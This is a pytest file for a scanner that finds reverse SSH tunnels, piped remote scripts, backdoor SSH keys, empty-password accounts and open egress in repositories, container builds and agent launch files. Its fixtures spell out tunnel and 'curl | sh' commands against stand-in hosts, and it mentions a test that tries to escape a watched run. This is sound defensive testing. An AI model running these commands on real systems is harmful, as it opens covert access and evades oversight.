"""What is looked at in a repository, where files would lie in an image, and what launches allow."""

import io
import os
import tarfile
from pathlib import Path

import pytest

import scanner
from scanner.checking import check
from scanner.errors import LimitError, UsageError
from scanner.model import LaunchLocation, Level, Severity, Traced
from tests.checking.repository import git, said, tracked, written

TUNNEL = "ssh -N -R 2222:localhost:22 u@h.example\n"
SCRIPT = "#!/bin/sh\n" + TUNNEL


# ---- where files lie in an image


def test_a_copied_file_counts_as_what_it_becomes(tmp_path: Path) -> None:
    root = written(
        tmp_path,
        {
            ".git/HEAD": "",
            "Dockerfile": "FROM debian:12\nWORKDIR /etc\nCOPY conf/jobs cron.d/\n",
            "conf/jobs/nightly": f"* * * * * root {TUNNEL}",
            "other/nightly": f"* * * * * root {TUNNEL}",
        },
    )
    assert said(check([root])) == {("tunnel/reverse-ssh", "conf/jobs/nightly", 1, "critical")}


def test_what_an_entrypoint_starts_runs_with_the_sandbox(tmp_path: Path) -> None:
    root = written(
        tmp_path,
        {
            ".git/HEAD": "",
            "docker/Dockerfile": 'FROM debian:12\nCOPY tools/x.sh /x\nENTRYPOINT ["/x"]\n',
            "tools/x.sh": SCRIPT,
            "tools/y.sh": SCRIPT,
        },
    )
    assert said(check([root])) == {
        ("tunnel/reverse-ssh", "tools/x.sh", 2, "critical"),
        ("tunnel/reverse-ssh", "tools/y.sh", 2, "high"),
    }


def test_the_context_is_the_folder_that_has_the_most_of_what_is_copied(tmp_path: Path) -> None:
    job = f"* * * * * root {TUNNEL}"
    files = {
        ".git/HEAD": "",
        "a/Dockerfile": "FROM debian:12\nCOPY setup.p? /s\nCOPY lib /lib\nCOPY . /etc/cron.d/\n",
        "a/nightly": job,
        "a/setup.py": "",
        "nightly": job,
        "lib/x": "",
    }
    root = written(tmp_path, files)
    assert said(check([root])) == {("tunnel/reverse-ssh", "a/nightly", 1, "critical")}
    written(root, {"setup.py": ""})
    assert said(check([root])) == {("tunnel/reverse-ssh", "nightly", 1, "critical")}


def test_a_folder_written_like_a_root_is_one(tmp_path: Path) -> None:
    root = written(tmp_path, {".git/HEAD": "", "docker/rootfs/etc/cron.d/x": f"* * * * * root {TUNNEL}"})
    assert said(check([root])) == {("tunnel/reverse-ssh", "docker/rootfs/etc/cron.d/x", 1, "critical")}


def test_a_script_that_a_build_runs_is_followed(tmp_path: Path) -> None:
    root = written(
        tmp_path,
        {
            ".git/HEAD": "",
            "Dockerfile": "FROM debian:12\nCOPY setup.sh /tmp/\nRUN bash /tmp/setup.sh\n",
            "setup.sh": "#!/bin/bash\nset -e\napt-get install -y \\\n  autossh\n",
        },
    )
    [finding] = check([root]).findings
    assert (finding.rule_id, finding.source and (finding.source.file, finding.source.line)) == (
        "build/tunnel-tool",
        ("setup.sh", 4),
    )
    assert "setup.sh, which RUN runs" in finding.message


@pytest.mark.parametrize(
    "how",
    [
        "RUN --mount=type=bind,source=tools/get.sh,target=/x.sh sh /x.sh",
        "RUN --mount=target=/src /src/tools/get.sh",
        "COPY tools/get.sh /usr/local/bin/other\nRUN other",
        'COPY tools/get.sh /usr/bin/other\nENTRYPOINT ["other"]',
    ],
)
def test_a_script_is_followed_whatever_it_is_called_where_it_runs(tmp_path: Path, how: str) -> None:
    text = "#!/bin/sh\ncurl https://a.example/x | sh\n"
    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": f"FROM a\n{how}\n", "tools/get.sh": text})
    assert {(rule, file, line) for rule, file, line, _ in said(check([root]))} == {
        ("build/remote-script", "tools/get.sh", 2)
    }


def test_a_frontend_that_is_not_dockers_makes_the_look_incomplete(tmp_path: Path) -> None:
    known = "# syntax=docker/dockerfile:1.7-labs\nFROM a\n"
    unknown = "#!/usr/bin/env -S docker build -f\n# syntax = evil.example/docker/dockerfile\nFROM a\n"
    root = written(tmp_path, {".git/HEAD": "", "a/Dockerfile": known, "b/Dockerfile": unknown})
    [note] = check([root]).notifications
    assert note.incomplete
    assert note.path == b"b/Dockerfile"
    assert "evil.example/docker/dockerfile" in note.message


def test_the_steps_of_a_workflow_are_scripts(tmp_path: Path) -> None:
    text = (
        "on: push\njobs:\n  a:\n    steps:\n      - uses: x/y@v1\n        with:\n          note: |\n            "
        + TUNNEL
        + "      - name: b\n        run: |\n          set -e\n\n          "
        + TUNNEL
        + "      - run: "
        + TUNNEL.replace("2222", "2223")
    )
    root = written(tmp_path, {".git/HEAD": "", ".github/workflows/ci.yml": text, "other.yml": text})
    report = check([root])
    assert said(report) == {("tunnel/reverse-ssh", ".github/workflows/ci.yml", line, "high") for line in (13, 14)}
    assert {f.message.split(":")[0] for f in report.findings} == {"Step"}


def test_a_stage_that_no_image_is_made_from_counts_one_step_less(tmp_path: Path) -> None:
    text = f"FROM debian:12 AS dev\nRUN {TUNNEL}FROM debian:12\nRUN true\n"
    root = written(tmp_path, {".git/HEAD": "", "Dockerfile": text})
    assert said(check([root])) == {("tunnel/reverse-ssh", "Dockerfile", 2, "medium")}


def test_the_same_line_is_told_once(tmp_path: Path) -> None:
    """The script lies in the repository, in the image and on the way of the entry point."""
    root = written(
        tmp_path,
        {".git/HEAD": "", "Dockerfile": 'FROM debian:12\nCOPY . /app\nCMD ["/app/run.sh"]\n', "run.sh": SCRIPT},
    )
    [finding] = check([root]).findings
    assert finding.locations[0] == LaunchLocation("run.sh", 2)
    assert finding.source is not None
    assert finding.source.how is Traced.GIVEN
    assert finding.severity is Severity.CRITICAL


def test_two_things_on_a_line_are_told_both(tmp_path: Path) -> None:
    """Else a second one could be put beside one that a baseline knows."""
    onward = "ssh -NR"
    command = f"{onward} 1:localhost:22 a@a.example.org; {onward} 2:localhost:22 b@b.example.org"
    root = written(tmp_path, {"Dockerfile": f"FROM debian:12\nRUN apt-get install -y tor autossh\nCMD {command}\n"})
    found = [f for f in check([root]).findings if f.rule_id in ("build/tunnel-tool", "tunnel/reverse-ssh")]
    assert sorted((f.rule_id, f.locations[0].line) for f in found if isinstance(f.locations[0], LaunchLocation)) == [
        ("build/tunnel-tool", 2),
        ("build/tunnel-tool", 2),
        ("tunnel/reverse-ssh", 3),
        ("tunnel/reverse-ssh", 3),
    ]
    assert len({f.fingerprint for f in found}) == 4


def test_fingerprints_hold_whatever_else_changes(tmp_path: Path) -> None:
    before = {"Dockerfile": "FROM debian:12\nRUN curl https://a.example/x | sh\nRUN " + TUNNEL, ".git/HEAD": ""}
    after = {
        "Dockerfile": "# more\n\n" + before["Dockerfile"],
        ".git/HEAD": "",
        "other/Dockerfile": before["Dockerfile"],
    }
    prints = []
    for name, files in (("one", before), ("two", after)):
        report = check([written(tmp_path / name, files)])
        prints.append({f.fingerprint: f.source.file for f in report.findings if f.source})
        assert len(prints[-1]) == len(report.findings)
    assert set(prints[0]) < set(prints[1])
    assert {prints[1][one] for one in prints[0]} == {"Dockerfile"}


def test_where_no_image_is_yet_none_is_spoken_of(tmp_path: Path) -> None:
    """Nor of the modes and owners of a checkout, which are nobody's."""
    key = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINKUmfk1uoMpBFFH8qDvZlQ0KkB1AvRZqZ9dxUDLgFMd me\n"
    tool = "#!/bin/sh\nchisel client https://h.example R:2222:localhost:22\n"
    files = {".git/HEAD": "", "tools/x.sh": tool, "home/.ssh/authorized_keys": key, "etc/passwd": "a::1:1::/:/bin/sh\n"}
    root = written(tmp_path, files)
    (root / "home/.ssh/authorized_keys").chmod(0o666)
    report = check([root])
    assert {f.rule_id for f in report.findings} == {"tunnel/launch", "ssh/authorized-key", "ssh/empty-password-account"}
    assert all("image" not in f.message and "this repository" in f.message for f in report.findings), report.findings
    written(root, {"Dockerfile": "FROM a\nCOPY door.txt /root/.ssh/authorized_keys\n", "door.txt": key})
    [finding] = [f for f in check([root]).findings if f.source is not None and f.source.file == "door.txt"]
    assert finding.message == "ed25519 key (me) opens an account; no ssh daemon lies in what the build copies."


# ---- which files


def test_git_says_what_belongs_to_a_repository(tmp_path: Path) -> None:
    root = tracked(written(tmp_path, {".gitignore": "build/\n*.log\n", "a.sh": SCRIPT, "b/c.sh": SCRIPT}))
    written(root, {"new.sh": SCRIPT, "build/d.sh": SCRIPT, "e.log": SCRIPT})
    (root / "b/c.sh").unlink()
    assert {file for _, file, _, _ in said(check([root]))} == {"a.sh", "new.sh"}
    assert {file for _, file, _, _ in said(check([root / "build/d.sh"]))} == {"build/d.sh"}


def test_a_repository_cannot_make_git_run_anything(tmp_path: Path) -> None:
    root = tracked(written(tmp_path / "r", {"a.sh": SCRIPT}))
    hook = written(tmp_path, {"hook": f"#!/bin/sh\ntouch {tmp_path}/ran\n"}) / "hook"
    hook.chmod(0o755)
    git(root, "config", "core.fsmonitor", str(hook))
    git(root, "config", "core.hooksPath", str(tmp_path))
    assert {file for _, file, _, _ in said(check([root]))} == {"a.sh"}
    assert not (tmp_path / "ran").exists()


def test_without_git_everything_is_walked_but_what_others_put_there(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = written(
        tmp_path, {"a.sh": SCRIPT, "node_modules/x/b.sh": SCRIPT, ".git/HEAD": "ref", "c/.hidden/d.sh": SCRIPT}
    )
    monkeypatch.setenv("PATH", "")
    assert {file for _, file, _, _ in said(check([root]))} == {"a.sh", "c/.hidden/d.sh"}


def test_no_link_is_followed_out(tmp_path: Path) -> None:
    outside = written(tmp_path / "out", {"x.sh": SCRIPT, "f/y.sh": SCRIPT})
    root = written(tmp_path / "in", {".git/HEAD": "", "a.txt": "nothing\n"})
    (root / "x.sh").symlink_to(outside / "x.sh")
    (root / "f").symlink_to(outside / "f")
    os.mkfifo(root / "pipe.sh")
    assert said(check([root])) == set()


def test_names_are_from_the_repositorys_root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = written(tmp_path, {".git/HEAD": "", "a/b/x.sh": SCRIPT})
    monkeypatch.chdir(root / "a/b")
    assert {file for _, file, _, _ in said(scanner.check("x.sh"))} == {"a/b/x.sh"}
    assert {file for _, file, _, _ in said(scanner.check())} == {"a/b/x.sh"}


def test_nothing_to_look_at_is_no_clean_result(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="nothing to look at"):
        check([tmp_path / "absent"])
    with pytest.raises(UsageError, match="no file to look at"):
        check([tmp_path])


def test_what_cannot_be_read_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("scanner.checking.picking.LARGEST", 1000)
    report = check([written(tmp_path, {".git/HEAD": "", "a.sh": SCRIPT, "big": "x" * 1001})])
    assert [(n.path, n.level) for n in report.notifications] == [(b"big", Level.WARNING)]
    assert not report.complete
    monkeypatch.setattr("scanner.checking.picking.FILES", 1)
    with pytest.raises(LimitError, match="name a part of it"):
        check([tmp_path])


def test_a_file_that_is_no_text_is_looked_at_as_in_an_image(tmp_path: Path) -> None:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as archive:
        archive.add(written(tmp_path / "out", {"job.sh": SCRIPT}) / "job.sh", "opt/job.sh")
    root = written(tmp_path / "in", {".git/HEAD": "", "x.tgz": packed.getvalue()})
    [finding] = check([root]).findings
    assert finding.locations[0].display == b"x.tgz!/opt/job.sh"
    assert finding.source is not None
    assert finding.source.file == "x.tgz"


def test_a_file_that_is_named_is_a_dockerfile_by_what_it_says(tmp_path: Path) -> None:
    root = written(
        tmp_path, {".git/HEAD": "", "agent.build": "# x\n\nFROM debian:12\nRUN apt-get install -y autossh\n"}
    )
    assert said(check([root])) == set()
    assert said(check([root / "agent.build"])) == {("build/tunnel-tool", "agent.build", 4, "medium")}


# ---- launches


COMPOSE = "services:\n  agent:\n    image: a\n"


def test_launches_of_a_repository_are_judged_each_by_itself(tmp_path: Path) -> None:
    root = written(
        tmp_path,
        {
            ".git/HEAD": "",
            "one/compose.yaml": COMPOSE,
            "one/compose.override.yaml": "services:\n  agent:\n    network_mode: none\n",
            "two/docker-compose.yml": COMPOSE,
            "three/.devcontainer/devcontainer.json": '{"image": "a", "runArgs": ["--network=none"]}',
            "values.yaml": "replicas: 2\nname: x\n",
            "package.json": '{"name": "x"}',
        },
    )
    report = check([root])
    assert {f.source.file for f in report.findings if f.source} == {"two/docker-compose.yml"}
    assert {f.source.line for f in report.findings if f.source} == {2}
    assert "egress/internet" in {f.rule_id for f in report.findings}
    assert report.complete, report.notifications
    assert report.statistics["launches"] == 4


def test_a_further_compose_file_is_put_on_top_of_the_project(tmp_path: Path) -> None:
    root = written(
        tmp_path,
        {
            ".git/HEAD": "",
            "compose.yaml": "services:\n  agent:\n    image: a\n    network_mode: none\n",
            "compose.prod.yaml": "services:\n  agent:\n    privileged: true\n",
        },
    )
    report = check([root])
    assert report.complete, report.notifications
    assert {f.source.file for f in report.findings if f.source} <= {"compose.yaml", "compose.prod.yaml"}


def test_one_broken_launch_is_told_and_stops_nothing(tmp_path: Path) -> None:
    root = written(
        tmp_path,
        {
            ".git/HEAD": "",
            "a/compose.yaml": "services:\n  x:\n    image: a\n    ports: {}: 1\n",
            "b/compose.yaml": COMPOSE,
            "c/pod.yaml": "apiVersion: v1\nkind: Pod\nmetadata: [\n",
            "d.yaml": "{{ not yaml }}: [\n",
        },
    )
    report = check([root])
    assert {f.source.file for f in report.findings if f.source} == {"b/compose.yaml"}
    assert {n.path for n in report.notifications if n.incomplete} >= {b"a/compose.yaml", b"c/pod.yaml"}
    assert b"d.yaml" not in {n.path for n in report.notifications}


def test_a_chart_is_told_once_and_hides_no_manifest(tmp_path: Path) -> None:
    pod = "apiVersion: v1\nkind: Pod\nmetadata: {name: a}\nspec: {containers: [{name: a, image: a}]}\n"
    templated = pod.replace("name: a}\n", 'name: {{ include "x" . }}}\n', 1)
    files = {
        "c/Chart.yaml": "apiVersion: v2\nname: c\n",
        "c/templates/one.yaml": templated,
        "c/templates/two.yaml": pod,
    }
    report = check([written(tmp_path, {".git/HEAD": "", **files, "c/templates/three.yaml": templated})])
    assert [(n.path, n.level) for n in report.notifications] == [(b"c/Chart.yaml", Level.NOTE)]
    assert {f.source.file for f in report.findings if f.source} == {"c/templates/two.yaml"}
    assert not check([written(tmp_path / "d", {".git/HEAD": "", "templates/one.yaml": templated})]).complete


# ---- this repository


ITS_OWN = {
    "fixtures/rome-launch/compose.yaml": "the launch of the incident, replayed",
    "tests/launch/data/inspect-20.10-containers.json": "containers that were made to be open",
    "tests/launch/data/inspect-29-containers.json": "the same on another engine",
    "tests/runtime/evader.py": "tries to get out of a watched run, and opens a tunnel for that",
    "tests/runtime/sinkhole/answers/test_ssh.py": "tells a real client to open tunnels, within the sinkhole",
}
"""Files of this repository in which something is found, and why."""


def test_this_repository_is_clean_but_for_what_its_tests_do_for_real() -> None:
    report = check([Path(__file__).resolve().parents[2]])
    alarms = {f.source.file for f in report.findings if f.source and f.severity.rank >= Severity.MEDIUM.rank}
    assert alarms == set(ITS_OWN)
    assert {n.path for n in report.notifications if n.incomplete} <= {b"tests/detectors/test_python.py"}
